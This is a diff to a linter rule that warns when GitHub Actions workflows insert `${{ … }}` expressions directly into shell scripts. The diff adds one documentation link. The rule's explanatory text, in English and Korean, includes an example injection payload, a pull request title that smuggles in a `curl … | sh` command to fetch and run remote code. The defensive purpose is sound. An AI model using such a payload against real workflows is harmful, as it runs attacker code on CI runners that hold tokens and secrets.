@@ -12,6 +12,7 @@ export const noScriptInjection: Rule<Workflow> = {
     en: '`${{ … }}` is replaced before the shell reads the script. A pull request titled `"; curl evil.sh | sh; "` then runs that command on your runner, with its token and secrets. Given by `env:`, the same text is only a value.',
     ko: '`${{ … }}`는 셸이 스크립트를 읽기 전에 값으로 바뀌어요. 제목이 `"; curl evil.sh | sh; "`인 풀 리퀘스트가 오면 그 명령이 토큰과 시크릿이 있는 러너에서 실행돼요. `env:`로 넘기면 같은 글이 그냥 값으로 남아요.',
   },
+  learn: 'actions-deploy#paste',
   reference: 'https://docs.github.com/en/actions/concepts/security/script-injections',
   alsoKnownAs: ['zizmor template-injection', 'actionlint expression'],
   severity: 'warning',
